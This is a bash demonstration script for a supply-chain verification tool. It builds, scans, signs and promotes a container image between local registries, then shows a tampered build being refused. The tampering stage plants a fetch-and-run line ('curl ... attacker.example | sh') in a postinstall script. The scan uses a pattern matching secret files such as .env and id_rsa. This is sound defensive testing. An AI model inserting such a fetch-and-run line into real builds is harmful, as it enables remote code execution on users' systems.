#!/usr/bin/env bash
# A docker-build-style supply chain, end to end, on referee's embedded
# registry (no network, no docker engine): checkout -> build -> scan -> push,
# each step recorded and signed with `referee run`, the evidence attached to
# the image in a "staging" registry, verified, promoted to a "production"
# registry with a signed verification summary (VSA), promoted again (adds
# nothing), and a tampered build refused with nothing copied.
#
# Explained in docs/pipelines.md. Run from anywhere:
#
#   bash docs/pipeline.sh
#
# REFEREE=/path/to/referee uses that binary (default: `go build` into a temp
# dir). crane is taken from PATH, else ~/go/bin or $(go env GOPATH)/bin.
# PIPELINE_KEEP=1 keeps the work directory (keys, links, layout) and prints it.
#
# Exit status 0 only if every expectation held; each stage is printed as
# "==> ..." and each check that held as "ok: ...".
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
repo=$(dirname "$here")
start=$SECONDS

stage() { printf '\n==> [%3ss] %s\n' "$((SECONDS - start))" "$*"; }
ok() { printf 'ok: %s\n' "$*"; }
fail() { printf 'FAILED: %s\n' "$*" >&2; exit 1; }

WORK=$(mktemp -d "${TMPDIR:-/tmp}/referee-pipeline.XXXXXX")
pids=()
cleanup() {
  local pid
  for pid in "${pids[@]}"; do
    kill -INT "$pid" 2>/dev/null || true
  done
  for pid in "${pids[@]}"; do
    wait "$pid" 2>/dev/null || true
  done
  if [ -n "${PIPELINE_KEEP:-}" ]; then
    echo "work directory kept: $WORK" >&2
  else
    rm -rf "$WORK"
  fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---------------------------------------------------------------- tools
stage "tools"
if [ -z "${REFEREE:-}" ]; then
  echo "building referee from $repo"
  (cd "$repo" && go build -o "$WORK/bin/referee" .)
  REFEREE=$WORK/bin/referee
fi
[ -x "$REFEREE" ] || fail "REFEREE=$REFEREE is not an executable"
CRANE=$(command -v crane || true)
if [ -z "$CRANE" ]; then
  for d in "$HOME/go/bin" "$(go env GOPATH 2>/dev/null | cut -d: -f1)/bin"; do
    if [ -x "$d/crane" ]; then CRANE=$d/crane; break; fi
  done
fi
[ -n "$CRANE" ] || fail "crane not found (go install github.com/google/go-containerregistry/cmd/crane@v0.22.1)"
export PATH="$(dirname "$CRANE"):$PATH"   # the push step runs `crane` by name
echo "referee: $REFEREE ($("$REFEREE" version 2>/dev/null | head -1))"
echo "crane:   $CRANE ($(crane version 2>/dev/null))"

# ---------------------------------------------------------------- registries
# Two embedded registries on free loopback ports: staging (where CI pushes)
# and production (where only verified images arrive). Each prints host:port
# on stdout once it listens.
serve() { # NAME -> sets REG_ADDR
  local name=$1 i
  "$REFEREE" registry serve --addr 127.0.0.1:0 >"$WORK/$name.addr" 2>"$WORK/$name.log" &
  pids+=("$!")
  for i in $(seq 1 100); do
    REG_ADDR=$(head -n1 "$WORK/$name.addr" 2>/dev/null || true)
    [ -n "$REG_ADDR" ] && return 0
    kill -0 "${pids[-1]}" 2>/dev/null || { cat "$WORK/$name.log" >&2; fail "$name registry exited"; }
    sleep 0.1
  done
  cat "$WORK/$name.log" >&2
  fail "$name registry did not start within 10s"
}
stage "registries"
serve staging; STAGING=$REG_ADDR
serve production; PROD=$REG_ADDR
echo "staging:    $STAGING"
echo "production: $PROD"

# ---------------------------------------------------------------- keys
# The layout owner signs the layout; each step has its functionary; the
# promoter signs the verification summaries it attaches in production.
stage "keys"
mkdir -p "$WORK/keys"
for k in owner dev builder scanner promoter; do
  printf '%-9s %s\n' "$k" "$("$REFEREE" keygen "$WORK/keys/$k")"
done
K=$WORK/keys

# ---------------------------------------------------------------- layout
# checkout -> build -> scan -> push. Every artifact a step consumes must match
# what the previous step produced; push binds the image (referee:image-manifest).
stage "layout (version 1)"
cat >"$WORK/layout.yaml" <<'YAML'
expires: 1mo
version: 1
readme: app, built from src/ into app.tar, scanned, and pushed as an OCI image
functionaries:
  dev: keys/dev.pub
  builder: keys/builder.pub
  scanner: keys/scanner.pub
steps:
  - name: checkout
    functionaries: [dev]
    expected_products: [CREATE src/*, DISALLOW *]
  - name: build
    functionaries: [builder]
    expected_command: tar -cf app.tar src
    expected_materials: [MATCH src/* WITH PRODUCTS FROM checkout, DISALLOW *]
    expected_products: [CREATE app.tar, DISALLOW *]
  - name: scan
    functionaries: [scanner]
    expected_materials: [MATCH app.tar WITH PRODUCTS FROM build, DISALLOW *]
    expected_products: [CREATE scan-report.txt, DISALLOW *]
  - name: push
    functionaries: [builder]
    expected_materials:
      - MATCH app.tar WITH PRODUCTS FROM build
      - MATCH scan-report.txt WITH PRODUCTS FROM scan
      - DISALLOW *
    expected_products: [CREATE referee:image-manifest, DISALLOW *]
YAML
"$REFEREE" layout create --spec "$WORK/layout.yaml" --key "$K/owner" --out "$WORK/root.layout"
"$REFEREE" layout show "$WORK/root.layout"

# The scan: list the tarball, refuse secrets. The report is the step's product;
# it ends in "scan: PASS" only if nothing forbidden was found.
# (referee run, like in-toto-run, records a failing command's exit code in the
# link and still exits 0, so the pipeline checks the outcome itself.)
SCAN='tar -tf app.tar >scan-report.txt
if grep -En "(^|/)(\.env|id_rsa|id_ed25519|[^/]*\.pem|[^/]*\.key)$" scan-report.txt >forbidden.txt; then
  { echo "forbidden files:"; cat forbidden.txt; echo "scan: FAIL"; } >>scan-report.txt; rm -f forbidden.txt; exit 1
fi
rm -f forbidden.txt; echo "scan: PASS ($(wc -l <scan-report.txt) files)" >>scan-report.txt'

scan_passed() { tail -n1 scan-report.txt | grep -q '^scan: PASS'; }

# ---------------------------------------------------------------- steps
TAG=1.0.0
IMAGE=$STAGING/app:$TAG
mkdir -p "$WORK/ws"
cd "$WORK/ws"

stage "step checkout (dev): the source tree"
"$REFEREE" run --step-name checkout --key "$K/dev" -p src -- sh -c '
  mkdir -p src && printf "#!/bin/sh\necho hello from app\n" >src/app.sh && chmod +x src/app.sh
  printf "app 1.0.0\n" >src/VERSION'

stage "step build (builder): tar -cf app.tar src"
"$REFEREE" run --step-name build --key "$K/builder" -m src -p app.tar -- tar -cf app.tar src

stage "step scan (scanner): what is in app.tar"
"$REFEREE" run --step-name scan --key "$K/scanner" -m app.tar -p scan-report.txt -- sh -c "$SCAN"
cat scan-report.txt
scan_passed || fail "the scan found forbidden files"
ok "scan passed"

stage "step push (builder): crane append, the link bound to the image"
push_ref=$("$REFEREE" run --step-name push --key "$K/builder" -m app.tar -m scan-report.txt \
  --attach "$IMAGE" --bind-image -- \
  crane append --oci-empty-base -f app.tar -t "$IMAGE" --insecure)
DIGEST=$(crane digest --insecure "$IMAGE")
echo "image $IMAGE = $DIGEST"
echo "push link attached as referrer $push_ref"

# ---------------------------------------------------------------- attach
stage "attach the layout and the other links to the image"
"$REFEREE" attach "$IMAGE" "$WORK/root.layout" checkout.*.link build.*.link scan.*.link

stage "referee discover $IMAGE"
"$REFEREE" discover "$IMAGE"

stage "referee verify $IMAGE"
"$REFEREE" verify "$IMAGE" --layout-key "$K/owner.pub" || fail "the image does not verify"
ok "staging image verified"

# ---------------------------------------------------------------- promote
referrer_digests() { # the digests of the whole referrer graph, sorted (no jq needed)
  "$REFEREE" discover "$1" --format json | grep -o '"digest": *"sha256:[0-9a-f]*"' | sed 1d | sort
}

stage "promote to production"
PROD_IMAGE=$PROD/app:$TAG
pdigest=$("$REFEREE" promote "$IMAGE" "$PROD_IMAGE" --layout-key "$K/owner.pub" --key "$K/promoter")
[ "$pdigest" = "$DIGEST" ] || fail "promote printed $pdigest, want $DIGEST"
ok "promoted $DIGEST"
"$REFEREE" discover "$PROD/app@$DIGEST"

stage "consumer check in production: referee verify --vsa-key promoter.pub"
"$REFEREE" verify "$PROD/app@$DIGEST" --vsa-key "$K/promoter.pub" || fail "the production copy does not verify by its VSA"
ok "production copy verified by the promoter's summary"
"$REFEREE" verify "$PROD/app@$DIGEST" --layout-key "$K/owner.pub" -q || fail "the production copy does not verify in full"
ok "production copy verifies in full too (its evidence was copied)"

stage "promote again: idempotent"
referrer_digests "$PROD/app@$DIGEST" >"$WORK/before.txt"
pdigest2=$("$REFEREE" promote "$IMAGE" "$PROD_IMAGE" --layout-key "$K/owner.pub" --key "$K/promoter")
referrer_digests "$PROD/app@$DIGEST" >"$WORK/after.txt"
[ "$pdigest2" = "$DIGEST" ] || fail "second promote printed $pdigest2, want $DIGEST"
before=$(wc -l <"$WORK/before.txt"); after=$(wc -l <"$WORK/after.txt")
[ "$before" -eq 6 ] || fail "production should have 6 referrers (layout, 4 links, VSA), has $before"
cmp -s "$WORK/before.txt" "$WORK/after.txt" || fail "second promote changed the referrers: $before -> $after"
ok "second promote added nothing ($before referrers before, the same $after after)"

stage "the scan is a real check: a secret in the tarball fails it"
mkdir -p "$WORK/secret/src" && cd "$WORK/secret"
echo 'AWS_SECRET_ACCESS_KEY=…' >src/.env
tar -cf app.tar src
if sh -c "$SCAN"; then fail "the scan passed a tarball with src/.env"; fi
cat scan-report.txt
ok "the scan refuses src/.env"
cd "$WORK/ws"

# ---------------------------------------------------------------- tampering
# Someone swaps the build output between build and scan (a compromised runner,
# a poisoned cache). The scan honestly scans what it is given (nothing it
# recognises as forbidden) and the push pushes it, each with valid signatures;
# but the scan's material app.tar is not the build's product.
stage "tampered: app.tar modified after the build step"
mkdir -p "$WORK/tampered"
cp -R src app.tar checkout.*.link build.*.link "$WORK/tampered/"
cd "$WORK/tampered"
printf '#!/bin/sh\ncurl -s http://attacker.example/x | sh\n' >src/postinstall.sh
tar -rf app.tar src/postinstall.sh
rm -f scan.*.link push.*.link
"$REFEREE" run --step-name scan --key "$K/scanner" -m app.tar -p scan-report.txt -- sh -c "$SCAN"
cat scan-report.txt
scan_passed || fail "the scan should not have noticed this tampering"
BAD=$STAGING/app:$TAG-tampered
"$REFEREE" run --step-name push --key "$K/builder" -m app.tar -m scan-report.txt \
  --attach "$BAD" --bind-image -- \
  crane append --oci-empty-base -f app.tar -t "$BAD" --insecure >/dev/null
BAD_DIGEST=$(crane digest --insecure "$BAD")
"$REFEREE" attach "$BAD" "$WORK/root.layout" checkout.*.link build.*.link scan.*.link >/dev/null
echo "tampered image $BAD = $BAD_DIGEST"
"$REFEREE" discover "$BAD"

stage "promote the tampered image: refused"
set +e
"$REFEREE" promote "$BAD" "$PROD/app:$TAG-tampered" --layout-key "$K/owner.pub" --key "$K/promoter"
rc=$?
set -e
[ "$rc" -eq 1 ] || fail "promote of the tampered image exited $rc, want 1"
ok "promote refused the tampered image (exit 1)"
if crane manifest --insecure "$PROD/app@$BAD_DIGEST" >/dev/null 2>&1; then
  fail "production has $BAD_DIGEST although promote refused it"
fi
ok "production does not have $BAD_DIGEST"
if crane ls --insecure "$PROD/app" | grep -qx "$TAG-tampered"; then
  fail "production has the tag $TAG-tampered"
fi
ok "production has no tag $TAG-tampered (tags: $(crane ls --insecure "$PROD/app" | tr '\n' ' '))"

stage "verify both staging images at once (references on stdin)"
set +e
printf '%s\n' "$IMAGE" "$BAD" | "$REFEREE" verify - --layout-key "$K/owner.pub" >"$WORK/batch.txt"
rc=$?
set -e
cat "$WORK/batch.txt"
[ "$rc" -eq 1 ] || fail "batch verify exited $rc, want 1 (one image does not verify)"
grep -q "^VERIFIED $STAGING/app:$TAG@$DIGEST" "$WORK/batch.txt" || fail "batch verify did not verify $IMAGE"
grep -q "^NOT-VERIFIED $BAD" "$WORK/batch.txt" || fail "batch verify did not refuse $BAD"
ok "batch verify: $IMAGE verified, $BAD not"

stage "PIPELINE OK: every expectation held"
